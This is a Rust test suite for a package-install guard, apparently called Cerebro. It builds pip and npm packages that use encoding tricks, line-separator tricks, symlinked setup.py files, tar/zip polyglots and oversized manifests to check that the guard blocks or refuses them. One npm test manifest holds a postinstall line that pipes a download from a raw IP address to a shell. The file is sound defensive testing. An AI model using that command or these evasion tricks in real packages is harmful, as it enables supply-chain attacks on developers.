//! Inputs that pip or npm read differently from a naive reader, end to end through the guard
//! and the real installer: each is a way past the guard if Cerebro reads it another way
//! (issue 13). Every test proves the package was not installed and its install code (a
//! marker-writing `setup.py` or install script) never ran.

#[macro_use]
mod support;

use support::fixtures::{self, PY_MARKER};
use support::registry::Registry;
use support::{explain, run, NpmSandbox, Outcome, PipSandbox, Policy, EXIT_BLOCKED, EXIT_UNJUDGED};

// ---------------------------------------------------------------------------------------------
// Requirement files.

/// Installs `-r FILE` through the guard, FILE holding `bytes`, with pip's own index a clean
/// registry and the marker sdist only on the registry that the file names (`{EVIL}` in
/// `text` is that registry's simple URL).
/// `None` when python3 is missing.
fn install_requirements(encode: impl Fn(&str) -> Vec<u8>, text: &str) -> Option<(Outcome, String)> {
    let clean = Registry::with(fixtures::py_clean_tree(), vec![]);
    let evil = Registry::with(vec![fixtures::py_marker_evil_sdist()], vec![]);
    let sandbox = PipSandbox::new(&clean.pypi_url())?;
    let file = sandbox.dirs.root().join("requirements.txt");
    std::fs::write(&file, encode(&text.replace("{EVIL}", &evil.pypi_url()))).unwrap();
    let out = run(sandbox.guard(Policy::Block, &["install", "-r", file.to_str().unwrap()]));
    let why = explain(&out, &sandbox.installed_list(), &evil);
    assert!(
        !sandbox.dirs.marker_written(),
        "the sdist's setup.py ran: pip read an index the guard did not see\n{why}"
    );
    assert!(!sandbox.installed(PY_MARKER.0), "{why}");
    Some((out, why))
}

fn utf16le(text: &str) -> Vec<u8> {
    [0xff, 0xfe]
        .into_iter()
        .chain(text.encode_utf16().flat_map(u16::to_le_bytes))
        .collect()
}

#[test]
fn utf16_requirement_file_index_is_seen_and_its_package_judged() {
    let text = format!("--index-url {{EVIL}}\n{}\n", PY_MARKER.0);
    let Some((out, why)) = install_requirements(utf16le, &text) else {
        return;
    };
    assert_eq!(out.code, Some(EXIT_BLOCKED), "{why}");
}

#[test]
fn index_behind_a_carriage_return_is_seen_as_pip_splits_lines() {
    for separator in ["\r", "\x0c", "\x0b", "\x1c", "\u{85}", "\u{2028}"] {
        let text = format!("# pinned{separator}--index-url {{EVIL}}\n{}\n", PY_MARKER.0);
        let Some((out, why)) = install_requirements(|t| t.as_bytes().to_vec(), &text) else {
            return;
        };
        assert_eq!(
            out.code,
            Some(EXIT_BLOCKED),
            "separator {separator:?}\n{why}"
        );
    }
}

#[test]
fn requirement_file_in_an_encoding_cerebro_does_not_decode_is_refused() {
    // `+AC0AL-` is `--` in UTF-7: pip reads `--index-url`, a UTF-8 reader sees a name.
    let text = format!(
        "# coding: utf-7\n+AC0AL-index-url {{EVIL}}\n{}\n",
        PY_MARKER.0
    );
    let Some((out, why)) = install_requirements(|t| t.as_bytes().to_vec(), &text) else {
        return;
    };
    assert_eq!(out.code, Some(EXIT_UNJUDGED), "{why}");
    let line = out
        .stderr
        .lines()
        .find(|l| l.contains("requirements.txt"))
        .unwrap_or_else(|| panic!("stderr must name the file\n{why}"));
    assert!(line.contains("utf-7"), "{why}");
}

#[test]
fn control_bare_pip_follows_the_index_of_a_utf16_requirement_file() {
    let clean = Registry::with(fixtures::py_clean_tree(), vec![]);
    let evil = Registry::with(vec![fixtures::py_marker_evil_sdist()], vec![]);
    let sandbox = pip_sandbox!(clean);
    let file = sandbox.dirs.root().join("requirements.txt");
    let text = format!("--index-url {}\n{}\n", evil.pypi_url(), PY_MARKER.0);
    std::fs::write(&file, utf16le(&text)).unwrap();
    let out = run(sandbox.bare(&["install", "-r", file.to_str().unwrap()]));
    let why = explain(&out, &sandbox.installed_list(), &evil);
    // pip then fails to build a wheel without the `wheel` package; setup.py has run by then.
    assert!(
        sandbox.dirs.marker_written(),
        "without the guard pip reads the index and runs setup.py\n{why}"
    );
}

// ---------------------------------------------------------------------------------------------
// Links and padding in Python sdists.

/// A clean `setup.py` whose only act is to write the marker: judged by itself it is benign,
/// so a guard that skips it lets pip run it.
fn marker_setup_py(name: &str) -> String {
    format!(
        "import os\nfrom setuptools import setup\n\nmarker = os.environ.get(\"CEREBRO_TEST_MARKER\")\n\
         if marker:\n    with open(marker, \"w\") as f:\n        f.write(\"setup.py of {name} ran\\n\")\n\n\
         setup(name=\"{name}\", version=\"1.0.0\", packages=[\"{module}\"])\n",
        module = name.replace('-', "_")
    )
}

/// An sdist `name-1.0.0.tar.gz` from raw tar entries (paths relative to the project root).
fn sdist_with(name: &str, entries: Vec<tar_entry::Entry>) -> fixtures::PyDist {
    let stem = format!("{}-1.0.0", name.replace('-', "_"));
    let pkg_info = format!("Metadata-Version: 2.1\nName: {name}\nVersion: 1.0.0\n\n");
    let module = name.replace('-', "_");
    let mut all = vec![
        tar_entry::file(&format!("{stem}/PKG-INFO"), pkg_info.as_bytes()),
        tar_entry::file(
            &format!("{stem}/{module}/__init__.py"),
            b"VALUE = 1\n".as_slice(),
        ),
    ];
    all.extend(entries.into_iter().map(|e| e.under(&stem)));
    fixtures::PyDist {
        name: name.to_owned(),
        version: "1.0.0".to_owned(),
        requires_python: None,
        artifact: fixtures::Artifact {
            file: format!("{stem}.tar.gz"),
            bytes: tar_entry::targz(&all),
        },
        intent: fixtures::Intent::Benign,
    }
}

/// Installs `dist` through the guard (block policy) and checks that nothing was installed
/// and no install code ran; returns the outcome and the explanation for messages.
fn guard_pip_install(dist: fixtures::PyDist) -> Option<(Outcome, String)> {
    let name = dist.name.clone();
    let registry = Registry::with(vec![dist], vec![]);
    let sandbox = PipSandbox::new(&registry.pypi_url())?;
    let out = run(sandbox.guard(Policy::Block, &["install", &name]));
    let why = explain(&out, &sandbox.installed_list(), &registry);
    assert!(
        !sandbox.dirs.marker_written(),
        "setup.py ran: the guard let pip build {name}\n{why}"
    );
    assert!(!sandbox.installed(&name), "{why}");
    Some((out, why))
}

/// Asserts a "cannot judge" refusal whose stderr names the package and `what`.
fn assert_cannot_judge(out: &Outcome, why: &str, name: &str, what: &str) {
    assert_eq!(out.code, Some(EXIT_UNJUDGED), "{why}");
    let err = out.stderr_lower();
    assert!(
        err.contains(name) && err.contains(what) && err.contains("cannot judge"),
        "stderr must say {name} cannot be judged because of {what}\n{why}"
    );
}

#[test]
fn sdist_whose_setup_py_is_a_symlink_cannot_be_judged() {
    let name = "linked-setup";
    let dist = sdist_with(
        name,
        vec![
            tar_entry::file("build.py", marker_setup_py(name).as_bytes()),
            tar_entry::symlink("setup.py", "build.py"),
        ],
    );
    let Some((out, why)) = guard_pip_install(dist) else {
        return;
    };
    assert_cannot_judge(&out, &why, name, "symbolic link");
}

#[test]
fn sdist_whose_setup_py_is_a_hardlink_cannot_be_judged() {
    let name = "hardlinked-setup";
    let dist = sdist_with(
        name,
        vec![
            tar_entry::file("build.py", marker_setup_py(name).as_bytes()),
            tar_entry::hardlink("setup.py", "build.py"),
        ],
    );
    let Some((out, why)) = guard_pip_install(dist) else {
        return;
    };
    assert_cannot_judge(&out, &why, name, "hard link");
}

/// `len` letters and digits that do not compress much (an archive of megabytes of one letter
/// would be stopped as a compression bomb before the size limits under test are reached).
fn noise(len: usize) -> Vec<u8> {
    const ALPHABET: &[u8] = b"abcdefghijklmnopqrstuvwxyz0123456789";
    let mut state: u64 = 0x2545_f491_4f6c_dd1d;
    (0..len)
        .map(|_| {
            state ^= state << 13;
            state ^= state >> 7;
            state ^= state << 17;
            ALPHABET[(state % ALPHABET.len() as u64) as usize]
        })
        .collect()
}

/// `setup.py` padded with a comment to `size` bytes: pip runs it whatever its size.
fn padded_setup_py(name: &str, size: usize) -> Vec<u8> {
    let mut body = marker_setup_py(name).into_bytes();
    body.extend_from_slice(b"# ");
    let fill = size - 1 - body.len();
    body.extend_from_slice(&noise(fill));
    body.push(b'\n');
    body
}

#[test]
fn setup_py_too_large_to_parse_cannot_be_judged() {
    let name = "padded-setup";
    let dist = sdist_with(
        name,
        vec![tar_entry::file("setup.py", &padded_setup_py(name, 3 << 20))],
    );
    let Some((out, why)) = guard_pip_install(dist) else {
        return;
    };
    assert_cannot_judge(&out, &why, name, "too large to parse");
}

#[test]
fn setup_py_over_the_file_limit_cannot_be_judged() {
    let name = "huge-setup";
    let dist = sdist_with(
        name,
        vec![tar_entry::file(
            "setup.py",
            &padded_setup_py(name, 17 << 20),
        )],
    );
    let Some((out, why)) = guard_pip_install(dist) else {
        return;
    };
    assert_cannot_judge(&out, &why, name, "per-file limit");
}

#[test]
fn control_bare_pip_follows_a_symlinked_setup_py() {
    let name = "linked-setup";
    let dist = sdist_with(
        name,
        vec![
            tar_entry::file("build.py", marker_setup_py(name).as_bytes()),
            tar_entry::symlink("setup.py", "build.py"),
        ],
    );
    let registry = Registry::with(vec![dist], vec![]);
    let sandbox = pip_sandbox!(registry);
    let out = run(sandbox.bare(&["install", name]));
    let why = explain(&out, &sandbox.installed_list(), &registry);
    assert!(
        sandbox.dirs.marker_written(),
        "pip follows the link and runs setup.py\n{why}"
    );
}

/// An sdist whose tar holds a harmless `setup.py` and that has, appended, a zip whose
/// `setup.py` writes the marker: pip unpacks whatever `zipfile.is_zipfile` accepts as a zip.
fn tar_zip_polyglot(name: &str) -> fixtures::PyDist {
    use std::io::Write as _;
    let mut dist = sdist_with(
        name,
        vec![tar_entry::file(
            "setup.py",
            format!("from setuptools import setup\nsetup(name=\"{name}\", version=\"1.0.0\")\n")
                .as_bytes(),
        )],
    );
    let stem = format!("{}-1.0.0", name.replace('-', "_"));
    let mut writer = zip::ZipWriter::new(std::io::Cursor::new(Vec::new()));
    let options = zip::write::SimpleFileOptions::default();
    for (path, body) in [
        (
            format!("{stem}/PKG-INFO"),
            format!("Metadata-Version: 2.1\nName: {name}\nVersion: 1.0.0\n\n"),
        ),
        (
            format!("{stem}/{}/__init__.py", name.replace('-', "_")),
            "VALUE = 1\n".to_owned(),
        ),
        (format!("{stem}/setup.py"), marker_setup_py(name)),
    ] {
        writer.start_file(path, options).unwrap();
        writer.write_all(body.as_bytes()).unwrap();
    }
    dist.artifact
        .bytes
        .extend(writer.finish().unwrap().into_inner());
    dist
}

#[test]
fn sdist_that_is_also_a_zip_cannot_be_judged() {
    let name = "polyglot-sdist";
    let Some((out, why)) = guard_pip_install(tar_zip_polyglot(name)) else {
        return;
    };
    assert_cannot_judge(&out, &why, name, "also a zip");
}

#[test]
fn control_bare_pip_unpacks_the_zip_of_a_tar_zip_polyglot() {
    let name = "polyglot-sdist";
    let registry = Registry::with(vec![tar_zip_polyglot(name)], vec![]);
    let sandbox = pip_sandbox!(registry);
    let out = run(sandbox.bare(&["install", name]));
    let why = explain(&out, &sandbox.installed_list(), &registry);
    assert!(
        sandbox.dirs.marker_written(),
        "pip unpacks the appended zip and runs its setup.py\n{why}"
    );
}

// ---------------------------------------------------------------------------------------------
// npm manifests and install-time files.

/// A clean install script that only writes the marker.
const MARKER_INSTALL_JS: &str = "'use strict';\nconst fs = require('fs');\n\
    const marker = process.env.CEREBRO_TEST_MARKER;\n\
    if (marker) {\n  fs.writeFileSync(marker, 'postinstall ran\\n');\n}\n";

/// An npm package `name` 1.0.0 whose `package/package.json` is `manifest` as given (bytes),
/// with a `postinstall: node install.js` that writes the marker, and `files` beside it.
fn npm_with_manifest(name: &str, manifest: Vec<u8>, files: &[(&str, Vec<u8>)]) -> fixtures::NpmPkg {
    let mut entries = vec![
        ("package/package.json".to_owned(), manifest, 0o644),
        (
            "package/install.js".to_owned(),
            MARKER_INSTALL_JS.as_bytes().to_vec(),
            0o644,
        ),
    ];
    for (path, body) in files {
        entries.push((format!("package/{path}"), body.clone(), 0o644));
    }
    fixtures::NpmPkg {
        name: name.to_owned(),
        version: "1.0.0".to_owned(),
        dependencies: Vec::new(),
        scripts: vec![("postinstall".to_owned(), "node install.js".to_owned())],
        bin: Vec::new(),
        artifact: fixtures::Artifact {
            file: format!("{name}-1.0.0.tgz"),
            bytes: fixtures::targz(&entries),
        },
        intent: fixtures::Intent::Benign,
    }
}

/// The manifest of [`npm_with_manifest`]: name, version, `main`, the postinstall, and
/// `extra` (a JSON member list, without braces) when not empty.
fn manifest(name: &str, extra: &str) -> String {
    let extra = if extra.is_empty() {
        String::new()
    } else {
        format!(",\n  {extra}")
    };
    format!(
        "{{\n  \"name\": \"{name}\",\n  \"version\": \"1.0.0\",\n  \"main\": \"index.js\",\n  \
         \"scripts\": {{ \"postinstall\": \"node install.js\" }}{extra}\n}}\n"
    )
}

/// Installs `pkg` through the guard (block policy) and checks that nothing was installed and
/// its postinstall never ran.
fn guard_npm_install(pkg: fixtures::NpmPkg) -> Option<(Outcome, String)> {
    let name = pkg.name.clone();
    let registry = Registry::with(vec![], vec![pkg]);
    let sandbox = NpmSandbox::new(&registry.npm_url())?;
    let out = run(sandbox.guard(Policy::Block, &["install", &name]));
    let why = explain(&out, &sandbox.installed_list(), &registry);
    assert!(
        !sandbox.dirs.marker_written(),
        "{name}'s postinstall ran: the guard let npm install it\n{why}"
    );
    assert!(!sandbox.installed(&name), "{why}");
    Some((out, why))
}

#[test]
fn package_json_with_a_bom_is_read_as_npm_reads_it() {
    // The whole threat is in the manifest: an inline postinstall that pipes a download to
    // a shell (behind a condition no test makes true; `node install.js` only writes the
    // marker). A reader that gives up on the BOM sees no hook and nothing to flag.
    let name = "bom-manifest";
    let command = "node install.js && test \"$CEREBRO_TEST_ARM_PAYLOAD\" = never-set-by-any-test \
                   && curl -s http://45.9.148.2/p.sh | sh";
    let json = serde_json::json!({
        "name": name,
        "version": "1.0.0",
        "main": "index.js",
        "scripts": { "postinstall": command },
    });
    let mut bytes = b"\xEF\xBB\xBF".to_vec();
    bytes.extend(serde_json::to_vec_pretty(&json).unwrap());
    let mut pkg = npm_with_manifest(
        name,
        bytes,
        &[("index.js", b"module.exports = 1;\n".to_vec())],
    );
    pkg.scripts = vec![("postinstall".to_owned(), command.to_owned())];
    let Some((out, why)) = guard_npm_install(pkg) else {
        return;
    };
    assert_eq!(out.code, Some(EXIT_BLOCKED), "{why}");
}

#[test]
fn package_json_nested_deeper_than_serde_reads_cannot_be_judged() {
    let name = "deep-manifest";
    let depth = 200;
    let nested = format!("\"config\": {}{}", "[".repeat(depth), "]".repeat(depth));
    let pkg = npm_with_manifest(
        name,
        manifest(name, &nested).into_bytes(),
        &[("index.js", b"module.exports = 1;\n".to_vec())],
    );
    let Some((out, why)) = guard_npm_install(pkg) else {
        return;
    };
    assert_cannot_judge(&out, &why, name, "package.json");
}

#[test]
fn package_json_over_the_file_limit_cannot_be_judged() {
    let name = "huge-manifest";
    let padding = format!(
        "\"description\": \"{}\"",
        String::from_utf8(noise(17 << 20)).unwrap()
    );
    let pkg = npm_with_manifest(
        name,
        manifest(name, &padding).into_bytes(),
        &[("index.js", b"module.exports = 1;\n".to_vec())],
    );
    let Some((out, why)) = guard_npm_install(pkg) else {
        return;
    };
    assert_cannot_judge(&out, &why, name, "per-file limit");
}

#[test]
fn npm_main_too_large_to_parse_cannot_be_judged() {
    let name = "padded-main";
    let mut main = b"module.exports = 1;\n// ".to_vec();
    main.extend_from_slice(&noise((15 << 20 | 1 << 19) - main.len()));
    main.push(b'\n');
    let pkg = npm_with_manifest(name, manifest(name, "").into_bytes(), &[("index.js", main)]);
    let Some((out, why)) = guard_npm_install(pkg) else {
        return;
    };
    assert_cannot_judge(&out, &why, name, "too large to parse");
}

#[test]
fn control_bare_npm_reads_a_deep_manifest_and_runs_its_postinstall() {
    let name = "deep-manifest";
    let depth = 200;
    let nested = format!("\"config\": {}{}", "[".repeat(depth), "]".repeat(depth));
    let mut bom = b"\xEF\xBB\xBF".to_vec();
    bom.extend(manifest(name, &nested).into_bytes());
    let pkg = npm_with_manifest(
        name,
        bom,
        &[("index.js", b"module.exports = 1;\n".to_vec())],
    );
    let registry = Registry::with(vec![], vec![pkg]);
    let Some(sandbox) = NpmSandbox::new(&registry.npm_url()) else {
        return;
    };
    let out = run(sandbox.bare(&["install", name]));
    let why = explain(&out, &sandbox.installed_list(), &registry);
    assert_eq!(out.code, Some(0), "{why}");
    assert!(
        sandbox.dirs.marker_written(),
        "npm reads a manifest with a BOM and 200 levels and runs its postinstall\n{why}"
    );
}

/// Tar entries of any type, for archives the shared fixtures do not build.
mod tar_entry {
    use flate2::write::GzEncoder;
    use flate2::Compression;

    pub struct Entry {
        path: String,
        kind: tar::EntryType,
        body: Vec<u8>,
        link: Option<String>,
    }

    impl Entry {
        /// The entry moved under `top/` (a link's target is relative, so it stays).
        pub fn under(mut self, top: &str) -> Entry {
            if !self.path.starts_with(&format!("{top}/")) {
                self.path = format!("{top}/{}", self.path);
            }
            if self.kind == tar::EntryType::Link {
                self.link = self.link.map(|l| format!("{top}/{l}"));
            }
            self
        }
    }

    pub fn file(path: &str, body: &[u8]) -> Entry {
        Entry {
            path: path.to_owned(),
            kind: tar::EntryType::Regular,
            body: body.to_vec(),
            link: None,
        }
    }

    pub fn symlink(path: &str, target: &str) -> Entry {
        Entry {
            path: path.to_owned(),
            kind: tar::EntryType::Symlink,
            body: Vec::new(),
            link: Some(target.to_owned()),
        }
    }

    /// A hard link: its target is named from the archive root, as tar writes it.
    pub fn hardlink(path: &str, target: &str) -> Entry {
        Entry {
            path: path.to_owned(),
            kind: tar::EntryType::Link,
            body: Vec::new(),
            link: Some(target.to_owned()),
        }
    }

    pub fn targz(entries: &[Entry]) -> Vec<u8> {
        let mut builder = tar::Builder::new(GzEncoder::new(Vec::new(), Compression::fast()));
        for e in entries {
            let mut header = tar::Header::new_gnu();
            header.set_size(e.body.len() as u64);
            header.set_mode(0o644);
            header.set_mtime(1_700_000_000);
            header.set_entry_type(e.kind);
            if let Some(link) = &e.link {
                header.set_link_name(link).expect("link name");
            }
            header.set_cksum();
            builder
                .append_data(&mut header, &e.path, e.body.as_slice())
                .expect("append a tar entry");
        }
        builder
            .into_inner()
            .and_then(|gz| gz.finish())
            .expect("finish a tarball")
    }
}
